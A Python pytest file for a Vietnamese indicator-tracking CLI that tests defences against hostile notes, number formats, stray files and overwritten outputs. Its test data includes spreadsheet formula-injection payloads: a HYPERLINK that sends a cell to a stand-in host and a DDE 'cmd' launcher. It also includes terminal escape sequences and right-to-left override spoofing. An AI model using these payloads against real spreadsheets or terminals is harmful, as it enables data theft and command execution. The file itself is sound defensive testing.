"""The adversary's cases: what a hostile note, a careless paste, a Notepad slip or a
re-run command did before, and what ntm does now. One test per case of the issue
"Safe in the office's hands", plus the property that any note round-trips through
record, the year file, an export and an import as text and only text.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ntm_tracker.cli import ExitCode
from ntm_tracker.storage.csvfile import FORMULA_START, formula_like, text_cell, typed_cell
from ntm_tracker.storage.store import Store
from tests.conftest import DEMO, Invoke

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?d="&B5,"Xem chi tiết")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\uff1d1+1",  # a full-width equals sign
    " =1+1",
]
# what may not reach a terminal: ESC (CSI, OSC), BEL, the C1 controls, DEL, bidi overrides
NUMBER = re.compile(r"-?\d+(\.\d+)?")
TERMINAL_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def entries(data: Path, year: int = 2027, book: str = "actuals") -> dict[str, object]:
    loaded = Store(data).load().data
    figures = loaded.actuals if book == "actuals" else loaded.plans
    return dict(figures.years[year].values)


def note_of(data: Path, ind: str, year: int = 2027) -> str | None:
    return Store(data).load().data.actuals.years[year].values[ind].note


def formula_cells(xlsx: bytes) -> list[str]:
    """Every formula cell of every sheet of an xlsx file, as openpyxl reads it."""
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    return [
        f"{sheet.title}!{c.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# -- 5. numbers: one rule -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["2028", "revenue", "8E+1"], "'8E+1' is written with an exponent"),
        (["2028", "schools", "1e2"], "'1e2' is written with an exponent"),
        (["2028", "revenue", "1e-320"], "'1e-320' is written with an exponent"),
        (["2028", "revenue", "5e-324"], "'5e-324' is written with an exponent"),
        (["2028", "revenue", "0,0000001"], "'0,0000001' has more digits than a figure keeps"),
    ],
)
def test_a_figure_that_cannot_be_kept_as_typed_is_refused(
    demo_dir: Path, ntm: Invoke, args: list[str], message: str
) -> None:
    r = ntm("--data-dir", str(demo_dir), "record", *args, "--lang", "en")
    assert (r.exit_code, r.stdout) == (ExitCode.USAGE_ERROR, "")
    assert r.stderr.startswith(f"Error: {message}")
    assert not (demo_dir / "actuals" / "2028.yaml").exists()


@pytest.mark.parametrize("typed", ["8e1", "1e-320", "0.0000001"])
def test_the_same_rule_in_a_hand_edited_file_and_an_import(
    demo_dir: Path, ntm: Invoke, typed: str, tmp_path: Path
) -> None:
    (demo_dir / "actuals" / "2028.yaml").write_text(f"year: 2028\nvalues:\n  revenue: {typed}\n")
    r = ntm("--data-dir", str(demo_dir), "check", "--lang", "en")
    assert r.exit_code == ExitCode.DATA_ERROR
    assert "2028.yaml:3: error: '" + typed + "'" in r.stdout
    (demo_dir / "actuals" / "2028.yaml").unlink()
    (tmp_path / "in.csv").write_text(f"year,indicator,value\n2028,revenue,{typed}\n")
    r = ntm("--data-dir", str(demo_dir), "import", str(tmp_path / "in.csv"), "--lang", "en")
    assert r.exit_code == ExitCode.DATA_ERROR
    assert f"line 2: '{typed}'" in r.stderr
    assert not (demo_dir / "actuals" / "2028.yaml").exists()


def test_minus_zero_is_stored_and_shown_as_zero(demo_dir: Path, ntm: Invoke) -> None:
    r = ntm("--data-dir", str(demo_dir), "record", "2028", "poverty", "-0", "--lang", "en")
    assert r.exit_code == 0, r.stderr
    assert "poverty 2028 = 0%" in r.stdout
    assert "poverty: {value: 0," in (demo_dir / "actuals" / "2028.yaml").read_text()
    for _ in range(2):  # the first run fills the cache, the second reads it
        r = ntm("--data-dir", str(demo_dir), "status", "2028", "--format", "json")
        assert '"actual": 0.0,' in next(ln for ln in r.stdout.splitlines() if '"poverty"' in ln)


def test_a_tiny_figure_in_an_old_file_is_named_not_a_traceback(demo_dir: Path, ntm: Invoke) -> None:
    # what the old `record 2028 party_admission 1e-320` wrote before crashing
    (demo_dir / "actuals" / "2028.yaml").write_text(
        "year: 2028\nvalues:\n  party_admission: {value: 1e-320}\n"
    )
    for args in (["check"], ["record", "2028", "income", "90"], ["status"]):
        r = ntm("--data-dir", str(demo_dir), *args, "--lang", "en")
        assert r.exit_code == ExitCode.DATA_ERROR, (args, r.stderr)
        assert "'1e-320' is written with an exponent" in r.stdout + r.stderr
        assert r.exception is None or isinstance(r.exception, SystemExit)


# -- 2. notes are text ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "note",
    [
        "\x1b[2J\x1b[Hxoá màn hình",  # clear screen
        "\x1b]0;tiêu đề\x07",  # the window's title
        "\u202eabc.exe",  # right-to-left override
        "\u2066isolate\u2069",
        "a\x01b",
        "a\x7fb",
        "a\x85b",  # NEL, a C1 control
    ],
)
def test_a_control_character_in_a_note_is_refused_everywhere(
    demo_dir: Path, ntm: Invoke, note: str, tmp_path: Path
) -> None:
    before = (demo_dir / "actuals" / "2027.yaml").read_bytes()
    r = ntm("--data-dir", str(demo_dir), "record", "2027", "revenue", "71", "--force",
            "--note", note, "--lang", "en")  # fmt: skip
    assert r.exit_code == ExitCode.USAGE_ERROR
    assert "invisible control character (U+" in r.stderr
    assert not TERMINAL_UNSAFE.search(r.stderr)
    (tmp_path / "in.csv").write_text(f'year,indicator,value,note\n2028,revenue,80,"{note}"\n')
    r = ntm("--data-dir", str(demo_dir), "import", str(tmp_path / "in.csv"), "--lang", "en")
    assert r.exit_code == ExitCode.DATA_ERROR
    assert "in.csv, line 2: The note contains an invisible control character" in r.stderr
    assert not TERMINAL_UNSAFE.search(r.stderr)
    assert (demo_dir / "actuals" / "2027.yaml").read_bytes() == before
    assert not (demo_dir / "actuals" / "2028.yaml").exists()


def test_a_control_character_typed_into_a_year_file_is_named_with_its_line(
    demo_dir: Path, ntm: Invoke
) -> None:
    path = demo_dir / "actuals" / "2027.yaml"
    path.write_text(path.read_text().replace("Ước thực hiện đến 31/12", '"x\\e[2Jy"'))
    for command in ("log", "status", "check"):
        r = ntm("--data-dir", str(demo_dir), command, "--lang", "en")
        assert r.exit_code == ExitCode.DATA_ERROR
        out = r.stdout + r.stderr
        assert "2027.yaml" in out and ":13:" in out.replace(", line ", ":")
        assert "'note' contains an invisible control character (U+001B)" in out
        assert not TERMINAL_UNSAFE.search(out)


def test_a_note_of_two_lines_reads_as_two_lines_in_every_format(
    demo_dir: Path, ntm: Invoke, tmp_path: Path
) -> None:
    d = str(demo_dir)
    r = ntm("--data-dir", d, "record", "2027", "income", "87", "--force",
            "--note", "dòng 1\r\ndòng 2\tcột 2")  # fmt: skip
    assert r.exit_code == 0, r.stderr
    assert note_of(demo_dir, "income") == "dòng 1\ndòng 2\tcột 2"
    one_line = "dòng 1 / dòng 2 cột 2"
    text = ntm("--data-dir", d, "summary", "2027").stdout
    row = next(ln for ln in text.splitlines() if ln.startswith("3\t"))
    assert row.split("\t")[-1] == one_line and row.count("\t") == 11
    md = ntm("--data-dir", d, "summary", "2027", "--format", "markdown").stdout
    assert "| dòng 1<br>dòng 2 cột 2 |" in md
    assert one_line in ntm("--data-dir", d, "log", "income").stdout
    assert one_line in ntm("--data-dir", d, "history", "income").stdout
    out = tmp_path / "bc.docx"
    assert ntm("--data-dir", d, "summary", "2027", "-o", str(out)).exit_code == 0
    import docx

    cells = [c for t in docx.Document(str(out)).tables for r_ in t.rows for c in r_.cells]
    assert any(c.text == "dòng 1\ndòng 2\tcột 2" for c in cells)
    xlsx = tmp_path / "pl.xlsx"
    assert ntm("--data-dir", d, "summary", "2027", "-o", str(xlsx)).exit_code == 0
    sheet = openpyxl.load_workbook(xlsx).active
    noted = [c for row in sheet.iter_rows() for c in row if c.value == "dòng 1\ndòng 2\tcột 2"]
    assert len(noted) == 1 and noted[0].alignment.wrap_text
    exported = tmp_path / "e.csv"
    assert ntm("--data-dir", d, "export", "-o", str(exported)).exit_code == 0
    notes = [r_[14] for r_ in csv_rows(exported.read_bytes())]
    assert "dòng 1\ndòng 2\tcột 2" in notes


# -- 1. no formula reaches a spreadsheet ----------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_like_text_is_written_after_an_apostrophe_and_read_back(text: str) -> None:
    assert formula_like(text)
    assert text_cell(text) == "'" + text
    assert typed_cell(text_cell(text)) == text


@pytest.mark.parametrize("text", ["abc", "'abc", "96,5", "", "a=b", "'"])
def test_other_text_is_written_as_it_is(text: str) -> None:
    assert text_cell(text) == text
    assert typed_cell(text) == text


@given(st.text(max_size=20))
def test_the_apostrophe_defence_round_trips(text: str) -> None:
    written = text_cell(text)
    assert written[:1] not in FORMULA_START
    assert typed_cell(written) == text


@pytest.mark.parametrize("note", FORMULAS[:3])
def test_no_formula_in_any_file_ntm_writes(
    demo_dir: Path, ntm: Invoke, tmp_path: Path, note: str
) -> None:
    d = str(demo_dir)
    plan = demo_dir / "targets.yaml"  # a plan name that starts with "="
    plan.write_text(
        plan.read_text().replace("vi: Thu nhập bình quân", "vi: =1+1 Thu nhập bình quân")
    )
    assert ntm("--data-dir", d, "record", "2027", "income", "87", "--force",
               "--note", note).exit_code == 0  # fmt: skip
    for args, name in (
        (["export"], "e.xlsx"),
        (["summary", "2027"], "pl.xlsx"),
    ):
        out = tmp_path / name
        r = ntm("--data-dir", d, *args, "-o", str(out))
        assert r.exit_code == 0, r.stderr
        assert formula_cells(out.read_bytes()) == []
        values = [
            c.value
            for row in openpyxl.load_workbook(out).active.iter_rows()
            for c in row
            if isinstance(c.value, str)
        ]
        assert note in values and any(v.startswith("=1+1 Thu") for v in values)
    csvs = [
        ntm("--data-dir", d, "export").stdout_bytes,
        ntm("--data-dir", d, "status", "--format", "csv").stdout_bytes,
        ntm("--data-dir", d, "history", "income", "--format", "csv").stdout_bytes,
    ]
    for data in csvs:
        for row in csv_rows(data):
            for cell in row:  # text after an apostrophe, or a number
                assert cell[:1] not in FORMULA_START or NUMBER.fullmatch(cell), cell
    rows = csv_rows(csvs[0])
    assert "'" + note in [r_[14] for r_ in rows]
    # numbers stay numbers: a negative growth rate is a number in Excel, not text
    assert any(c.startswith("-") and NUMBER.fullmatch(c) for r_ in rows for c in r_)
    text = ntm("--data-dir", d, "summary", "2027").stdout
    line = next(ln for ln in text.splitlines() if ln.startswith("3\t"))
    assert line.split("\t")[1].startswith("'=1+1") and line.split("\t")[-1] == "'" + note


def test_an_export_with_a_formula_like_note_imports_back_as_it_was(
    demo_dir: Path, ntm: Invoke, tmp_path: Path
) -> None:
    d = str(demo_dir)
    note = '=HYPERLINK("http://example.invalid/?d="&B5,"Xem")'
    assert ntm("--data-dir", d, "record", "2027", "income", "87", "--force",
               "--note", note).exit_code == 0  # fmt: skip
    out = tmp_path / "e.csv"
    assert ntm("--data-dir", d, "export", "-o", str(out)).exit_code == 0
    r = ntm("--data-dir", d, "import", str(out), "--lang", "en")
    assert r.exit_code == 0, r.stderr
    assert "nothing to record" in r.stdout or "unchanged" in r.stdout
    assert note_of(demo_dir, "income") == note


# -- the property: any note round-trips as text ---------------------------------------------

NOTES = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), min_size=1, max_size=40
) | st.sampled_from(FORMULAS)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(note=NOTES)
def test_any_note_round_trips_as_text(
    note: str, ntm: Invoke, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """record -> year file -> export CSV and xlsx -> import: no formula cell, no terminal
    escape printed, and the same text back; or a refusal in one line, nothing written."""
    from ntm_tracker.core.entering import check_note
    from ntm_tracker.core.problems import InputError

    data = tmp_path_factory.mktemp("round") / "demo"
    shutil.copytree(DEMO, data)
    d = str(data)
    r = ntm("--data-dir", d, "record", "2027", "income", "87", "--force", "--note", note)
    printed = r.stdout + r.stderr
    assert not TERMINAL_UNSAFE.search(printed), printed
    assert r.exception is None or isinstance(r.exception, SystemExit), repr(r.exception)
    try:
        kept = check_note(note)
    except InputError:
        assert r.exit_code == ExitCode.USAGE_ERROR and len(r.stderr.splitlines()) == 1
        assert (
            note_of(data, "income") == "Ước thực hiện đến 31/12" or note_of(data, "income") is None
        )
        return
    assert r.exit_code == 0, r.stderr
    assert note_of(data, "income") == kept
    for command in (["log", "income"], ["history", "income"], ["summary", "2027"]):
        out = ntm("--data-dir", d, *command)
        assert out.exit_code == 0
        assert not TERMINAL_UNSAFE.search(out.stdout + out.stderr)
    folder = tmp_path_factory.mktemp("out")
    xlsx = folder / "e.xlsx"
    assert ntm("--data-dir", d, "export", "-o", str(xlsx)).exit_code == 0
    assert formula_cells(xlsx.read_bytes()) == []
    if kept is not None:
        texts = [c.value for row in openpyxl.load_workbook(xlsx).active.iter_rows() for c in row]
        assert kept in texts
    exported = folder / "e.csv"
    assert ntm("--data-dir", d, "export", "-o", str(exported)).exit_code == 0
    for row in csv_rows(exported.read_bytes()):
        assert all(c[:1] not in FORMULA_START or NUMBER.fullmatch(c) for c in row)
    # the export imports into a fresh copy of the folder with the note as it was
    fresh = tmp_path_factory.mktemp("fresh") / "demo"
    shutil.copytree(DEMO, fresh)
    r = ntm("--data-dir", str(fresh), "import", str(exported), "--force")
    assert r.exit_code == 0, r.stderr
    assert note_of(fresh, "income") == kept


# -- 3. nothing near a data file is ignored without a word ----------------------------------

STRAY_COPIES = [
    ("actuals/2028.yaml.txt", "saved as a text file"),
    ("actuals/2028.yml", "rename it 2028.yaml"),
    ("actuals/2028.YAML", "rename it 2028.yaml"),
    ("actuals/2028.yaml.bak", "rename it 2028.yaml"),
    ("actuals/2028 (1).yaml", "rename it 2028.yaml"),
    ("actuals/2028.txt", "saved as a text file"),
    ("2028.yaml", "outside actuals/ and plans/"),
    ("actual/2028.yaml", "outside actuals/ and plans/"),
    ("actuals/cu/2028.yaml", "outside actuals/ and plans/"),
]


@pytest.mark.parametrize(("name", "words"), STRAY_COPIES)
def test_a_stray_copy_of_a_year_is_named_and_never_doubled(
    demo_dir: Path, ntm: Invoke, name: str, words: str
) -> None:
    stray = demo_dir / name
    stray.parent.mkdir(parents=True, exist_ok=True)
    stray.write_text("year: 2028\nvalues:\n  revenue: 90\n", encoding="utf-8")
    d = str(demo_dir)
    for args in (["status"], ["summary", "2027"], ["export"], ["log"]):
        r = ntm("--data-dir", d, *args, "--lang", "en")
        assert r.exit_code == 0
        assert r.stderr.startswith(f"Warning: {demo_dir / name}: ") and words in r.stderr, args
    r = ntm("--data-dir", d, "check", "--lang", "en")
    assert r.exit_code == 0 and f"{demo_dir / name}: warning: " in r.stdout
    assert "no problems" not in r.stdout
    r = ntm("--data-dir", d, "record", "2028", "income", "95", "--lang", "en")
    assert r.exit_code == ExitCode.DATA_ERROR
    assert r.stderr.splitlines()[-1] == (
        f"Error: {demo_dir / 'actuals' / '2028.yaml'}: {demo_dir / name} also holds figures of "
        "2028 but is not read; rename or move it to this name (or delete it), then try again. "
        "Nothing was written."
    )
    assert not (demo_dir / "actuals" / "2028.yaml").exists()


def test_a_file_that_is_no_year_file_stays_quiet(demo_dir: Path, ntm: Invoke) -> None:
    for name in ("actuals/ghi chu.txt", "actuals/bao cao 2027.docx", "actuals/desktop.ini",
                 "actuals/.DS_Store", "huong dan.txt", "targets 2025-2030.yaml",
                 "cu/targets 2025-2030.yaml.bak"):  # fmt: skip
        (demo_dir / name).parent.mkdir(exist_ok=True)
        (demo_dir / name).write_text("x")
    r = ntm("--data-dir", str(demo_dir), "check", "--lang", "en")
    assert (r.exit_code, r.stdout) == (0, "Checked 6 files: no problems.\n")
    assert ntm("--data-dir", str(demo_dir), "record", "2027", "revenue", "71",
               "--force").exit_code == 0  # fmt: skip


# -- 4. outputs: an existing file is replaced only when told to -----------------------------

OUTPUTS = [
    (["summary", "2027"], "bc.docx"),
    (["summary", "2027"], "pl.xlsx"),
    (["summary", "2027"], "bc.txt"),
    (["export"], "x.csv"),
    (["export"], "x.xlsx"),
    (["chart", "income", "--png"], "c.png"),
]


@pytest.mark.parametrize(("args", "name"), OUTPUTS)
def test_rerunning_a_command_never_destroys_a_finished_file(
    demo_dir: Path, ntm: Invoke, tmp_path: Path, args: list[str], name: str
) -> None:
    out = tmp_path / name
    out.write_bytes(b"finished by hand in Word")
    option = [] if args[-1] == "--png" else ["--output"]
    r = ntm("--data-dir", str(demo_dir), *args, *option, str(out), "--lang", "en")
    assert (r.exit_code, r.stdout) == (ExitCode.USAGE_ERROR, "")
    assert r.stderr == (
        f"Error: {out}: The file already exists; add --force to replace it, or give another "
        "file name. Nothing was written.\n"
    )
    assert out.read_bytes() == b"finished by hand in Word"
    out.chmod(0o444)
    r = ntm("--data-dir", str(demo_dir), *args, *option, str(out), "--lang", "en")
    assert r.exit_code == ExitCode.USAGE_ERROR and "read-only" in r.stderr
    assert out.read_bytes() == b"finished by hand in Word"
    r = ntm("--data-dir", str(demo_dir), *args, *option, str(out), "--force", "--lang", "en")
    assert r.exit_code == 0
    # a report names the blanks the office must fill in, the sheet the figure missing
    # (test_summary.py, test_office.py); nothing else
    named = ("Warning: the report has 3 blanks ", "Warning: 2027 has no figure yet for (8)")
    assert r.stderr == "" or r.stderr.startswith(named)
    assert out.read_bytes() != b"finished by hand in Word"


def test_on_a_terminal_ntm_asks_before_replacing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from ntm_tracker.commands.context import ask_replace
    from ntm_tracker.i18n import Words

    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    out = tmp_path / "bc.docx"
    for answer, replaced in (("c\n", True), ("có\n", True), ("y\n", True), ("k\n", False),
                             ("\n", False), ("", False), ("maybe\n", False)):  # fmt: skip
        monkeypatch.setattr("sys.stdin", Tty(answer))
        monkeypatch.setattr("sys.stderr", Tty())
        confirm = ask_replace(Words("vi"))
        assert confirm is not None
        assert confirm(out) is replaced, answer
        assert f"Tệp {out} đã có. Ghi đè lên tệp này? (c/k) " == sys_err(monkeypatch)
    monkeypatch.setattr("sys.stdin", io.StringIO("c\n"))  # no terminal: nobody to ask
    assert ask_replace(Words("vi")) is None


def sys_err(monkeypatch: pytest.MonkeyPatch) -> str:
    import sys

    value: str = sys.stderr.getvalue()  # type: ignore[union-attr]  # the Tty above
    return value


@pytest.mark.parametrize(
    "args",
    [
        ["record", "2027", "revenue", "71"],
        ["record", "2027", "revenue", "70", "--note", "x"],
        ["unset", "2027", "revenue"],
        ["plan", "2027", "revenue", "79"],
        ["import", "IN"],
    ],
)
def test_a_read_only_year_file_is_written_only_with_force(
    demo_dir: Path, ntm: Invoke, tmp_path: Path, args: list[str]
) -> None:
    book = "plans" if args[0] == "plan" else "actuals"
    path = demo_dir / book / "2027.yaml"
    path.chmod(0o444)
    before = path.read_bytes()
    csv_file = tmp_path / "in.csv"
    csv_file.write_text("year,indicator,value\n2027,revenue,71\n")
    args = [str(csv_file) if a == "IN" else a for a in args]
    r = ntm("--data-dir", str(demo_dir), *args, "--lang", "en")
    assert r.exit_code in (ExitCode.DATA_ERROR, ExitCode.CONFLICT)
    assert path.read_bytes() == before
    if r.exit_code == ExitCode.DATA_ERROR:
        assert r.stderr.endswith(
            "the file is read-only (someone protected it); add --force to write it all the "
            "same. Nothing was written.\n"
        )
    r = ntm("--data-dir", str(demo_dir), *args, "--force", "--lang", "en")
    assert r.exit_code == 0, r.stderr
    assert path.read_bytes() != before
    assert not path.stat().st_mode & 0o222  # still protected


# -- 4. the report's options ----------------------------------------------------------------


@pytest.mark.parametrize("number", ["15", "15-BC/ĐU", "15 - BC/ĐU", "15-bc/du"])
def test_a_number_typed_with_its_suffix_is_written_once(
    demo_dir: Path, ntm: Invoke, tmp_path: Path, number: str
) -> None:
    out = tmp_path / "bc.docx"
    r = ntm("--data-dir", str(demo_dir), "summary", "2027", "-o", str(out), "--number", number)
    assert r.exit_code == 0, r.stderr
    import docx

    texts = [p.text for t in docx.Document(str(out)).tables for c in t._cells for p in c.paragraphs]
    assert "Số 15-BC/ĐU" in texts


@pytest.mark.parametrize(
    ("option", "message"),
    [
        (["--number", "-5"], "'-5' is not a report number"),
        (["--number", "0"], "'0' is not a report number"),
        (["--number", "15/BC"], "'15/BC' is not a report number"),
        (["--date", "1999-01-01"], "The report on 2027 cannot be dated 1999-01-01"),
        (["--date", "15/12/2030"], "The report on 2027 cannot be dated 15/12/2030"),
        (["--number", "1", "--number", "2"], "The option --number is given twice"),
        (["--date", "2027-12-15", "--date=2027-12-16"], "The option --date is given twice"),
        (["--signer", "A", "--signer", "B"], "The option --signer is given twice"),
    ],
)
def test_a_report_option_that_cannot_be_meant_gets_a_clear_line(
    demo_dir: Path, ntm: Invoke, tmp_path: Path, option: list[str], message: str
) -> None:
    out = tmp_path / "bc.docx"
    r = ntm("--data-dir", str(demo_dir), "summary", "2027", "-o", str(out), *option, "--lang", "en")
    assert (r.exit_code, r.stdout) == (ExitCode.USAGE_ERROR, "")
    assert r.stderr.startswith(f"Error: {message}")
    assert not out.exists()


@pytest.mark.parametrize("date", ["2027-12-15", "15/12/2027", "10/01/2028"])
def test_a_report_dated_in_its_year_or_the_next_is_fine(
    demo_dir: Path, ntm: Invoke, tmp_path: Path, date: str
) -> None:
    out = tmp_path / "bc.docx"
    r = ntm("--data-dir", str(demo_dir), "summary", "2027", "-o", str(out), "--date", date)
    assert r.exit_code == 0, r.stderr


def test_a_note_given_twice_is_refused_not_halved(demo_dir: Path, ntm: Invoke) -> None:
    before = (demo_dir / "actuals" / "2027.yaml").read_bytes()
    r = ntm("--data-dir", str(demo_dir), "record", "2027", "revenue", "71", "--force",
            "--note", "A", "--note", "B", "--lang", "en")  # fmt: skip
    assert r.exit_code == ExitCode.USAGE_ERROR
    assert r.stderr.startswith("Error: The option --note is given twice")
    assert (demo_dir / "actuals" / "2027.yaml").read_bytes() == before


# -- 6. no traceback ------------------------------------------------------------------------

LONG = "a" * 300


def test_a_name_too_long_for_the_system_is_one_line(
    demo_dir: Path, ntm: Invoke, tmp_path: Path
) -> None:
    r = ntm("--data-dir", str(demo_dir), "summary", "2027", "-o", str(tmp_path / f"{LONG}.txt"),
            "--lang", "en")  # fmt: skip
    assert r.exit_code == ExitCode.USAGE_ERROR
    assert r.stderr.endswith("the name is too long; choose another file or folder.\n")
    assert r.stderr.count("\n") == 1
    r = ntm("--data-dir", str(tmp_path / LONG), "status", "--lang", "en")
    assert r.exit_code == ExitCode.DATA_ERROR
    assert r.stderr.endswith("the folder cannot be read: the name is too long.\n")
    assert r.stderr.count("\n") == 1


@pytest.mark.posix_only("the working folder removed while in use (Windows refuses)")
def test_a_deleted_working_folder_is_one_line(tmp_path: Path) -> None:
    import subprocess
    import sys

    from tests.conftest import ROOT

    gone = tmp_path / "gone"
    gone.mkdir()
    script = (
        "import os, sys; os.chdir(sys.argv[1]); os.rmdir(sys.argv[1]); "
        "sys.argv = ['ntm', *sys.argv[2:]]; from ntm_tracker.launch import main; main()"
    )
    for args in (["status"], ["--data-dir", str(DEMO), "summary", "2027", "-o", "x.txt"]):
        done = subprocess.run(
            [sys.executable, "-c", script, str(gone), *args, "--lang", "en"],
            capture_output=True,
            text=True,
            env={"PYTHONPATH": str(ROOT), "NTM_CACHE_DIR": ""},
            check=False,
        )
        gone.mkdir()
        assert "Traceback" not in done.stderr, done.stderr
        assert done.returncode in (ExitCode.DATA_ERROR, ExitCode.USAGE_ERROR), done.stderr
        assert done.stderr == (
            "Error: The folder this command was started in no longer exists (it was deleted or "
            "moved); change to another folder (cd) and run it again.\n"
        )


def test_any_oserror_that_reaches_the_top_is_one_line(
    demo_dir: Path, ntm: Invoke, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno

    def broken(self: object, *args: object, **kwargs: object) -> None:
        raise OSError(errno.EIO, "Input/output error", "somewhere.yaml")

    monkeypatch.setattr(Store, "load", broken)
    r = ntm("--data-dir", str(demo_dir), "status", "--lang", "en")
    assert (r.exit_code, r.stdout) == (ExitCode.DATA_ERROR, "")
    assert r.stderr == (
        "Error: somewhere.yaml: the system refused it: the disk could not be read or written "
        "(a disk or network fault).\n"
    )


@pytest.mark.posix_only("SIGINT sent to a child (send_signal) and preexec_fn")
@pytest.mark.parametrize("command", [["record", "2028", "income", "90"], ["summary", "2027"],
                                     ["import", "IN"]])  # fmt: skip
def test_ctrl_c_however_early_is_the_interrupted_message(
    demo_dir: Path, tmp_path: Path, command: list[str]
) -> None:
    import signal
    import subprocess
    import sys
    import time

    from tests.conftest import ROOT

    csv_file = tmp_path / "in.csv"
    csv_file.write_text("year,indicator,value\n2028,income,90\n")
    args = [str(csv_file) if a == "IN" else a for a in command]
    # Python's own start (the site module) and the import of the two-line launcher (what
    # the console script does first, about a millisecond) come before any code of ntm's can
    # run: the test counts from the launcher's first step, the import of the command line
    script = """
import builtins, sys
from ntm_tracker.launch import main
real = builtins.__import__
def ready(name, *args, **kwargs):
    if name == "ntm_tracker.cli" and builtins.__import__ is ready:
        builtins.__import__ = real
        sys.stderr.write("ready\\n")
        sys.stderr.flush()
    return real(name, *args, **kwargs)
builtins.__import__ = ready
sys.argv[0] = "ntm"
main()
"""
    for delay in (0.0, 0.01, 0.03, 0.06, 0.1, 0.15, 0.2, 0.3):
        process = subprocess.Popen(
            [sys.executable, "-c", script, "--data-dir", str(demo_dir), *args, "--lang", "en"],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env={"PYTHONPATH": str(ROOT), "NTM_CACHE_DIR": ""},
            # as a terminal starts it (a background job of a script would ignore Ctrl+C)
            preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
        )
        assert process.stderr is not None
        assert process.stderr.readline() == "ready\n"
        time.sleep(delay)
        process.send_signal(signal.SIGINT)
        out, err = process.communicate(timeout=60)
        assert "Traceback" not in err, (delay, err)
        if process.returncode == ExitCode.INTERRUPTED:  # what it says is true
            written = (demo_dir / "actuals" / "2028.yaml").exists()
            said = err.splitlines()[-1] if err else ""
            if written:
                assert said.startswith("Error: Interrupted after writing "), (delay, err)
            else:
                assert said == "Error: Interrupted; nothing was written.", (delay, err)
        else:  # it had finished before the signal came
            assert process.returncode == 0, (delay, process.returncode, err)
            assert out, (delay, process.returncode, err)
        (demo_dir / "actuals" / "2028.yaml").unlink(missing_ok=True)


# -- 8. messages ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "suggested"),
    [("thu nhập", "'income'"), ("thu nhap", "'income'"), ("bảo hiểm y tế", "'health_insurance'"),
     ("doanh thu", "'revenue'")],
)  # fmt: skip
def test_vietnamese_names_are_suggested_with_or_without_accents(
    demo_dir: Path, ntm: Invoke, typed: str, suggested: str
) -> None:
    r = ntm("--data-dir", str(demo_dir), "record", "2027", typed, "87")
    assert r.exit_code == ExitCode.USAGE_ERROR
    assert r.stderr.startswith(f"Lỗi: Không có chỉ tiêu '{typed}'. Có phải là {suggested}")


def test_a_full_name_typed_without_accents_is_the_indicator(demo_dir: Path, ntm: Invoke) -> None:
    r = ntm("--data-dir", str(demo_dir), "history", "thu nhap binh quan dau nguoi tren dia ban")
    assert r.exit_code == 0 and r.stdout.startswith("(3) Thu nhập bình quân")


def test_minus_inf_is_a_figure_refused_not_an_option(demo_dir: Path, ntm: Invoke) -> None:
    r = ntm("--data-dir", str(demo_dir), "record", "2028", "income", "-inf")
    assert (
        r.stderr == "Lỗi: '-inf' không phải là số (chỉ tiêu 'income'); viết như 96,5 hoặc 96.5.\n"
    )


def test_no_path_argument_answers_in_the_parser_s_english() -> None:
    """click's Path type says "Path 'in.csv' is not readable." in English before ntm can
    read the file and say why in the user's language: no argument uses that check."""
    import typer.main

    from ntm_tracker.cli import app

    group = typer.main.get_command(app)
    commands = [group, *group.commands.values()]  # type: ignore[attr-defined]
    paths = [p for c in commands for p in c.params if type(p.type).__name__ == "TyperPath"]
    assert len(paths) >= 5
    assert all(not p.type.readable for p in paths)


def test_init_names_the_files_it_kept(tmp_path: Path, ntm: Invoke) -> None:
    (tmp_path / "d" / "actuals").mkdir(parents=True)
    (tmp_path / "d" / "actuals" / "2026.yaml").write_text("year: 2026\n")
    r = ntm("init", str(tmp_path / "d"))
    assert r.exit_code == 0
    assert "(trống)" not in r.stdout and "đã có sẵn 1 tệp, giữ nguyên" in r.stdout


def test_init_blank_names_the_files_it_kept(tmp_path: Path, ntm: Invoke) -> None:
    (tmp_path / "d" / "plans").mkdir(parents=True)
    for year in (2026, 2027):
        (tmp_path / "d" / "plans" / f"{year}.yaml").write_text(f"year: {year}\n")
    r = ntm("init", "--blank", str(tmp_path / "d"), "--lang", "en")
    assert r.exit_code == 0, r.stderr
    plan, folder = tmp_path / "d" / "targets.yaml", tmp_path / "d"
    assert r.stdout == (
        f"Created a blank plan {plan} to fill in (every key explained, one example of each "
        f"kind of target) in the data folder {folder}; actuals/ and plans/ already hold 2 "
        "files, kept as they were. Write your targets into the plan, then run `ntm check`.\n"
    )


@pytest.mark.parametrize(
    "command",
    [["status"], ["indicators"], ["history", "income"], ["explain", "income"], ["check"],
     ["log"], ["chart", "income"]],
)  # fmt: skip
def test_every_output_file_is_replaced_only_when_told_to(
    demo_dir: Path, tmp_path: Path, ntm: Invoke, command: list[str]
) -> None:
    """--output on every report command (main) goes through the one rule of output files
    (safety): an existing file is kept without --force."""
    out = tmp_path / "out.txt"
    out.write_text("finished by hand\n", encoding="utf-8")
    args = ["--data-dir", str(demo_dir), *command, "--output", str(out), "--lang", "en"]
